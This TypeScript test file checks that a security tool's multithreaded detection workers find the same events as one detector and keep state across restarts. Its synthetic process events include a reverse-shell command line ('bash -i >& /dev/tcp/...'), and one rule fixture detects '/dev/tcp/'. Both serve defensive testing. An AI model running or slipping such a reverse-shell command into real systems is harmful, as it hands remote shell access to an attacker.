/** Detection threads find what one detector finds, whatever their number, and lose nothing when they end. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { createDetector, type Finding, joinStates } from '@rampart/detection'
import { type Event, parseEvent } from '@rampart/event'
import type { EventBatch } from '../archive/event-archive.ts'
import { Lanes } from './lanes.ts'

const head = (number: number, title: string, kind: string) => `title: ${title}
id: 5b3c1f3e-000${number}-4000-8000-000000000001
status: experimental
description: A test model.
author: Rampart
date: 2026-01-01
tags: [attack.execution, attack.t1059.004]
falsepositives: [Tests]
level: high
rampart:
  type: Suspicious Process
  stages: [Damage]
  ${kind}
  entity: process.executable
  dedupBy: [process.commandLine]
  requires: [process.started]
  why: It is a test.
  blindSpots: Everything else.
  triage: [Look.]
  advice: [Do nothing.]
`
const counted = (groupBy: string, gte: number) => `correlation:
  type: event_count
  rules: [counted]
  group-by: [${groupBy}]
  timespan: 1h
  condition: { gte: ${gte} }
---
title: Counted
name: counted
logsource: { product: linux, category: process_creation }
detection: { s: { CommandLine|contains: count-me }, condition: s }
`
const models = [
  {
    path: 'single/rule.yml',
    text: `${head(1, 'Single', 'kind: sigma')}logsource: { product: linux, category: process_creation }
detection: { s: { CommandLine|contains: /dev/tcp/ }, condition: s }
`,
  },
  {
    path: 'asset/rule.yml',
    text: head(2, 'Counted on one asset', 'kind: correlation') + counted('asset.id, process.name', 4),
  },
  { path: 'across/rule.yml', text: head(3, 'Counted everywhere', 'kind: correlation') + counted('process.name', 7) },
  {
    path: 'novelty/rule.yml',
    text: `${head(4, 'New name', 'kind: novelty\n  novelty: { field: process.name, per: [user.name], learnEvents: 5, learnFor: 1m }')}logsource: { product: linux, category: process_creation }
detection: { s: { CommandLine|contains: learn }, condition: s }
`,
  },
]
const setup = { models, acrossAssets: ['across/rule.yml'], indicatorDirectories: [] }
const commands = ['ls', 'bash -i >& /dev/tcp/198.51.100.7/1', 'count-me', 'learn', 'count-me too']
const names = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']

/** The same events for the same number: five assets, some of them in batches of the server. */
function batchOf(sequence: number): EventBatch {
  const asset = (number: number) => `asset-${number % 5}`
  const events = Array.from({ length: 20 }, (_, index): Event => {
    const number = sequence * 20 + index
    const id = sequence % 4 === 0 ? asset(number) : asset(sequence)
    const at = 1_750_000_000_000 + number * 7_000
    const name = names[(number * 7 + (number >> 3)) % Math.min(3 + (sequence >> 3), names.length)] ?? 'a'
    const parsed = parseEvent({
      schema: 1,
      id: `${id}/boot/${number}`,
      at,
      asset: { id, name: id, kind: 'host' },
      sensor: 'test',
      type: 'process.started',
      user: { id: 0, name: 'root' },
      process: {
        pid: number,
        entityId: `p${number}`,
        startedAt: at,
        executable: `/usr/bin/${name}`,
        name,
        commandLine: `${commands[(number * 3) % 5]} ${number % 50}`,
      },
    })
    assert.ok(parsed.ok, JSON.stringify(parsed))
    return parsed.event
  })
  const source = sequence % 4 === 0 ? 'server' : asset(sequence)
  return { source, spoolId: 'spool', sequence, receivedAt: 0, events }
}
const units = Array.from({ length: 30 }, (_, unit) => [batchOf(unit * 2), batchOf(unit * 2 + 1)])

/** Findings in the order of their events; those of one event by model, since threads have them in any order. */
function idsOf(findings: readonly Finding[]): string[] {
  const order = new Map<string, number>()
  for (const { evidence } of findings) if (!order.has(evidence.id)) order.set(evidence.id, order.size)
  const place = ({ evidence }: Finding) => order.get(evidence.id) ?? 0
  return [...findings]
    .sort((one, other) => place(one) - place(other) || (one.id < other.id ? -1 : 1))
    .map(({ id, evidence }) => `${evidence.id} ${id}`)
}

const { detector } = createDetector({ models })
const expected = units.map((unit) =>
  idsOf(unit.flatMap(({ events }) => events.flatMap((each) => detector.detect(each)))),
)

/** The archive of what was given so far. */
const archiveOf = (given: readonly EventBatch[]) => ({
  async *batches({ segment }: { segment: number }) {
    yield* given.slice(segment)
  },
})

test('the models of this test hold, each in its own way', () => {
  assert.deepEqual([...detector.acrossAssets], ['5b3c1f3e-0003-4000-8000-000000000001'])
  const held = new Set(expected.flat().map((id) => id.split(' ')[1]?.slice(0, 13)))
  assert.deepEqual([...held].sort(), ['5b3c1f3e-0001', '5b3c1f3e-0002', '5b3c1f3e-0003', '5b3c1f3e-0004'])
})

for (const workers of [0, 1, 2, 3])
  test(`${workers} threads: the same findings in the same order`, async () => {
    const lanes = new Lanes(setup, workers, assert.fail)
    for (const [index, unit] of units.entries()) assert.deepEqual(idsOf(await lanes.detect(unit)), expected[index])
    assert.equal(lanes.stats.failures, 0)
    await lanes.stop()
  })

test('state left by two threads goes on in three, in one, and in none', async () => {
  for (const [before, after] of [
    [2, 3],
    [3, 1],
    [1, 2],
    [2, 0],
    [0, 2],
  ] as const) {
    const first = new Lanes(setup, before, assert.fail)
    for (const unit of units.slice(0, 13)) await first.detect(unit)
    const states = (await first.save()).map((state) => JSON.parse(state))
    await first.stop()
    const second = new Lanes(setup, after, assert.fail)
    await second.restore(joinStates(states))
    for (const [index, unit] of units.entries())
      if (index >= 13) assert.deepEqual(idsOf(await second.detect(unit)), expected[index], `${before} to ${after}`)
    await second.stop()
  }
})

test('a thread that ends is begun anew with its state, between units and in the middle of one', async () => {
  const problems: string[] = []
  const lanes = new Lanes(setup, 2, (message) => problems.push(message))
  const given: EventBatch[] = []
  let saved: string[] = []
  lanes.backUp(archiveOf(given), { segment: 0, offset: 0 }, () =>
    saved.length > 0 ? joinStates(saved.map((state) => JSON.parse(state))) : null,
  )
  for (const [index, unit] of units.entries()) {
    if (index === 12) {
      saved = await lanes.save()
      lanes.savedAt({ segment: given.length, offset: 0 })
    }
    if (index === 5 || index === 20) await lanes.kill(index % 2)
    const found = lanes.detect(unit)
    if (index === 9 || index === 25) await lanes.kill(index % 2)
    given.push(...unit)
    assert.deepEqual(idsOf(await found), expected[index], `unit ${index}`)
  }
  assert.equal(problems.filter((problem) => problem === 'a detection thread was lost').length, 4)
  assert.equal(lanes.stats.failures, 0)
  await lanes.stop()
})

test('events that no thread survives are counted, and those after them are looked at', async () => {
  const problems: string[] = []
  const lanes = new Lanes(setup, 1, (message) => problems.push(message))
  lanes.backUp(archiveOf([]), { segment: 0, offset: 0 }, () => null)
  const poison = { ...batchOf(1), events: [{ ...batchOf(1).events[0], toJSON: () => undefined } as unknown as Event] }
  assert.deepEqual(await lanes.detect([poison]), [])
  assert.equal(lanes.stats.failures, 1)
  assert.match(problems.at(-1) ?? '', /1 events were not looked at/)
  assert.deepEqual(idsOf(await lanes.detect(units[0] ?? [])), expected[0])
  await lanes.stop()
})
